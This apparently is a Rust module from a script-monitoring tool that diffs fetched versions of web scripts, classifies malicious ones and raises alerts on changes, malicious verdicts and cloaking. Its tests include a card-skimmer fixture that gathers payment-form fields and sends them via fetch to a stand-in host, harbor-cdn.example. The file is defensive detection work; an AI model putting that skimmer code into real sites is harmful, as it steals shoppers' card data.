//! What a fetched version means: its analysis against the previous version of the same URL,
//! and the events it raises.
//!
//! - `script-changed`: the script's *behaviour* changed ([`ScriptDiff`] on the normalised
//!   trees): with what was added and removed (units with excerpts, new sinks, APIs and
//!   hosts). A cosmetic change (reformatting, renamed locals, other literals, re-minified)
//!   raises nothing; the version is recorded all the same.
//! - `script-malicious`: the classifier calls the new body, or the code it adds to the
//!   previous one, malicious; with its risk, categories and reasons. High, at once.
//! - `fetch-mismatch`: browsers reported a hash for the URL that the body Parapet fetched
//!   does not have, and no earlier version had: the server answers Parapet differently
//!   from browsers (skimmers serve clean code to scanners), or the script differs per
//!   visitor.

use parapet_core::versions::VersionAnalysis;
use parapet_core::{Event, Service, Severity};
use serde_json::json;

use crate::analysis::classify::{classify, Context, Verdict};
use crate::analysis::diff::ScriptDiff;
use crate::analysis::fingerprint::Fingerprint;
use crate::analysis::{analyse, SCHEME};

/// Added or removed units listed in an alert (the version's stored diff keeps them all, up
/// to the diff's own bound).
pub const MAX_UNITS_IN_ALERT: usize = 20;

/// A body's analysis, with the verdict and (given a previous version) the diff.
#[derive(Debug, Clone)]
pub struct Assessment {
    /// What the store keeps with the version.
    pub analysis: VersionAnalysis,
    /// The classifier's verdict: on the whole body, or on what it adds to the previous
    /// version, whichever is riskier.
    pub verdict: Verdict,
    /// The behavioural diff against the previous version.
    pub diff: Option<ScriptDiff>,
}

/// Analyses `body` fetched from `url`, with the previous version's body if there is one.
/// `site_host` is the host of the site's pages (for first-party hosts and look-alikes).
///
/// CPU-bound (a parse or two with oxc): call it from a blocking thread.
pub fn assess(
    url: &str,
    site_host: Option<&str>,
    body: &[u8],
    previous: Option<&[u8]>,
) -> Assessment {
    let text = String::from_utf8_lossy(body);
    let a = analyse(&text);
    let ctx = Context { site: site_host };
    let whole = classify(url, &a, None, ctx);
    let previous_text = previous.map(String::from_utf8_lossy);
    let previous_analysis = previous_text.as_deref().map(analyse);
    let (diff, added) = match &previous_analysis {
        Some(p) => {
            let d = ScriptDiff::between("previous", p, url, &a);
            // A restructured version names nothing new, but what moved is scored all the same.
            let added =
                (d.behaviour_changed || d.restructured).then(|| classify(url, &a, Some(p), ctx));
            (Some(d), added)
        }
        None => (None, None),
    };
    let verdict = match added {
        Some(v) if v.risk > whole.risk => v,
        _ => whole,
    };
    let fingerprint = Fingerprint::of(url, &a);
    let mut analysis = VersionAnalysis::default();
    analysis.scheme = SCHEME.to_owned();
    analysis.normalized_hash = fingerprint.normalized_hash.clone();
    analysis.family = a.family.as_ref().map(|f| f.signature.clone());
    analysis.fingerprint = serde_json::to_value(&fingerprint).unwrap_or_default();
    analysis.risk = verdict.risk;
    analysis.malicious = verdict.malicious;
    analysis.verdict = serde_json::to_value(&verdict).unwrap_or_default();
    analysis.behaviour_changed = diff.as_ref().map(|d| d.behaviour_changed);
    analysis.diff = diff
        .as_ref()
        .map(|d| serde_json::to_value(d).unwrap_or_default());
    Assessment {
        analysis,
        verdict,
        diff,
    }
}

/// Where a version came from, for the events' details.
#[derive(Debug, Clone, Copy)]
pub struct Origin<'a> {
    pub site: &'a str,
    pub url: &'a str,
    /// The page the script was reported on (sent as `Referer`).
    pub page: Option<&'a str>,
    /// sha256 of the body, hex.
    pub sha256: &'a str,
}

/// `script-changed`: behaviour changed between the previous version (`previous_sha256`) and
/// this one. High when the new version sends somewhere new or uses a new network sink,
/// medium otherwise. One alert per new body.
pub fn changed_event(o: Origin<'_>, previous_sha256: &str, d: &ScriptDiff) -> Event {
    let severity = if d.new_sinks.is_empty() && d.new_hosts.is_empty() {
        Severity::Medium
    } else {
        Severity::High
    };
    let mut summary = format!(
        "script {} changed behaviour: {} code units added, {} removed",
        o.url, d.added_units, d.removed_units
    );
    if !d.new_sinks.is_empty() {
        summary.push_str(&format!("; new sinks: {}", d.new_sinks.join(", ")));
    }
    if !d.new_hosts.is_empty() {
        summary.push_str(&format!("; new hosts: {}", d.new_hosts.join(", ")));
    }
    let units = |list: &[crate::analysis::diff::Change]| {
        list.iter()
            .take(MAX_UNITS_IN_ALERT)
            .map(|c| serde_json::to_value(c).unwrap_or_default())
            .collect::<Vec<_>>()
    };
    Event::new(
        Service::Scripts,
        "script-changed",
        severity,
        o.site,
        summary,
    )
    .with_dedup_key(format!(
        "scripts/script-changed/{}/{}/{}",
        o.site, o.url, o.sha256
    ))
    .with_details(json!({
        "site": o.site,
        "url": o.url,
        "page": o.page,
        "sha256": o.sha256,
        "previous_sha256": previous_sha256,
        "comparable": d.comparable,
        "old_hash": d.old_hash,
        "new_hash": d.new_hash,
        "added_units": d.added_units,
        "removed_units": d.removed_units,
        "added": units(&d.added),
        "removed": units(&d.removed),
        "new_sinks": d.new_sinks,
        "new_apis": d.new_apis,
        "removed_apis": d.removed_apis,
        "new_hosts": d.new_hosts,
        "removed_hosts": d.removed_hosts,
        "family": d.new_family.as_ref().map(|f| f.signature.as_str()),
    }))
}

/// `script-malicious`: the classifier's verdict on a new body. High; one alert per body.
pub fn malicious_event(o: Origin<'_>, v: &Verdict) -> Event {
    let categories = if v.categories.is_empty() {
        String::new()
    } else {
        format!(", {}", v.categories.join(", "))
    };
    let summary = format!(
        "script {} classified malicious (risk {:.2}{categories}): {}",
        o.url,
        v.risk,
        v.reasons.join("; ")
    );
    Event::new(
        Service::Scripts,
        "script-malicious",
        Severity::High,
        o.site,
        summary,
    )
    .with_dedup_key(format!(
        "scripts/script-malicious/{}/{}/{}",
        o.site, o.url, o.sha256
    ))
    .with_details(json!({
        "site": o.site,
        "url": o.url,
        "page": o.page,
        "sha256": o.sha256,
        "risk": v.risk,
        "malicious": v.malicious,
        "categories": v.categories,
        "reasons": v.reasons,
        "scope": v.scope,
        "hosts": v.hosts,
        "family": v.family.as_ref().map(|f| f.signature.as_str()),
    }))
}

/// `fetch-mismatch`: browsers reported `reported` for the URL, and what Parapet fetched
/// (`fetched_hash`, `None` without a body) is not it, nor was any earlier version. High:
/// it is what cloaking looks like.
pub fn mismatch_event(
    site: &str,
    url: &str,
    page: Option<&str>,
    reported: &str,
    fetched_hash: Option<&str>,
    status: u16,
) -> Event {
    Event::new(
        Service::Scripts,
        "fetch-mismatch",
        Severity::High,
        site,
        format!(
            "browsers ran a version of {url} that Parapet's fetch did not get \
             (reported {reported}, fetched {} with status {status})",
            fetched_hash.unwrap_or("no body")
        ),
    )
    .with_dedup_key(format!("scripts/fetch-mismatch/{site}/{url}"))
    .with_details(json!({
        "site": site,
        "url": url,
        "page": page,
        "reported_hash": reported,
        "fetched_hash": fetched_hash,
        "status": status,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLEAN: &str = r#"(function () {
  var form = document.getElementById("payment");
  if (!form) return;
  form.addEventListener("submit", function (event) {
    event.preventDefault();
    var number = form.elements["cc-number"].value.replace(/\s+/g, "");
    document.getElementById("status").textContent = number ? "Thank you!" : "Check the card";
  });
})();
"#;

    /// CLEAN, reformatted with other names and strings: behaviour unchanged.
    const COSMETIC: &str = r#"(function(){var f=document.getElementById("payment");if(!f)return;
f.addEventListener("submit",function(e){e.preventDefault();var n=f.elements["cc-number"].value.replace(/x/g,"");
document.getElementById("status").textContent=n?"Merci":"Nope";});})();"#;

    fn skimmed() -> String {
        format!(
            "{CLEAN}(function () {{\n  var f = document.getElementById(\"payment\");\n  \
             f.addEventListener(\"submit\", function () {{\n    var d = {{}};\n    \
             for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;\n    \
             d.card = f.elements[\"cc-number\"].value;\n    \
             fetch(\"https://harbor-cdn.example/collect\", {{ method: \"POST\", mode: \"no-cors\", body: btoa(JSON.stringify(d)) }});\n  \
             }});\n}})();\n"
        )
    }

    fn origin<'a>(sha: &'a str) -> Origin<'a> {
        Origin {
            site: "shop",
            url: "https://shop.example/js/checkout.js",
            page: Some("https://shop.example/checkout.html"),
            sha256: sha,
        }
    }

    #[test]
    fn a_first_version_has_no_diff() {
        let a = assess("u", Some("shop.example"), CLEAN.as_bytes(), None);
        assert!(a.diff.is_none());
        assert_eq!(a.analysis.behaviour_changed, None);
        assert!(!a.analysis.malicious, "{:?}", a.verdict.reasons);
        assert!(a.analysis.normalized_hash.is_some());
        assert_eq!(a.analysis.scheme, SCHEME);
        assert!(a.analysis.fingerprint["statements"].is_array());
    }

    #[test]
    fn a_cosmetic_change_is_silent_and_an_injection_alerts() {
        let cosmetic = assess(
            "u",
            Some("shop.example"),
            COSMETIC.as_bytes(),
            Some(CLEAN.as_bytes()),
        );
        assert_eq!(cosmetic.analysis.behaviour_changed, Some(false));
        assert!(!cosmetic.analysis.malicious);

        let skim = skimmed();
        let a = assess(
            "https://shop.example/js/checkout.js",
            Some("shop.example"),
            skim.as_bytes(),
            Some(CLEAN.as_bytes()),
        );
        assert_eq!(a.analysis.behaviour_changed, Some(true));
        let d = a.diff.as_ref().unwrap();
        assert_eq!(d.new_hosts, ["harbor-cdn.example"]);
        assert!(
            d.new_sinks.iter().any(|s| s == "fetch"),
            "{:?}",
            d.new_sinks
        );
        assert!(a.analysis.malicious, "{:?}", a.verdict);
        assert!(a.verdict.categories.contains(&"magecart"));

        let e = changed_event(origin("new"), "old", d);
        assert_eq!(
            (e.kind.as_str(), e.severity),
            ("script-changed", Severity::High)
        );
        assert!(
            e.summary.contains("new hosts: harbor-cdn.example"),
            "{}",
            e.summary
        );
        assert_eq!(e.details["previous_sha256"], "old");
        assert_eq!(e.details["new_hosts"][0], "harbor-cdn.example");
        let added = &e.details["added"][0];
        assert!(
            added["excerpt"]
                .as_str()
                .unwrap()
                .starts_with("(function () { var f = document.getElementById"),
            "{added}"
        );
        assert_eq!(added["hosts"][0], "harbor-cdn.example", "{added}");

        let m = malicious_event(origin("new"), &a.verdict);
        assert_eq!(
            (m.kind.as_str(), m.severity),
            ("script-malicious", Severity::High)
        );
        assert!(m.details["categories"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c == "magecart"));
        assert!(!m.details["reasons"].as_array().unwrap().is_empty());
        assert_ne!(
            m.dedup_key,
            malicious_event(origin("other"), &a.verdict).dedup_key,
            "one alert per body"
        );
    }

    #[test]
    fn a_mismatch_names_both_hashes() {
        let e = mismatch_event(
            "shop",
            "https://x.example/a.js",
            None,
            "sha256-A",
            Some("sha256-B"),
            200,
        );
        assert_eq!(
            (e.kind.as_str(), e.severity),
            ("fetch-mismatch", Severity::High)
        );
        assert!(e.summary.contains("sha256-A") && e.summary.contains("sha256-B"));
        assert_eq!(e.details["reported_hash"], "sha256-A");
    }
}
